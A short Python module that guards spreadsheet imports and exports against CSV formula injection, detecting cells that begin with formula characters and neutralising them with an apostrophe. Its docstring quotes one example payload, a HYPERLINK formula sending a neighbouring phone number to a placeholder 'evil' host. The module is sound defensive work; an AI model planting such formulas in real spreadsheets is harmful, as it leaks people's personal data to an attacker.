"""Spreadsheet safety (CSV/formula injection, OWASP): text that a spreadsheet program would run as a formula.

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some programs strip
before looking) is read by Excel, LibreOffice and Google Sheets as a formula: ``=HYPERLINK("http://evil/?"&B2)``
next to a phone number leaks it with one click. Imports refuse such text (``is_formula``); every export
writes it inert (``inert``: prefixed with an apostrophe; XLSX cells are also typed as strings by the writer).

A plain number (``-5``, ``+62812…``) and a lone dash (what dinas sheets write for "none") are not formulas.
"""

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN = re.compile(r"[+-]?\d+(?:[.,]\d+)*|-+")


def is_formula(text: str) -> bool:
    """Would a spreadsheet program run this text as a formula (or strip its start and then do so)?"""
    return text.startswith(FORMULA_STARTS) and _PLAIN.fullmatch(text) is None


def inert(text: str) -> str:
    """The text as a spreadsheet shows it but never runs it: ``'=1+1`` for ``=1+1``, anything else unchanged."""
    return "'" + text if is_formula(text) else text
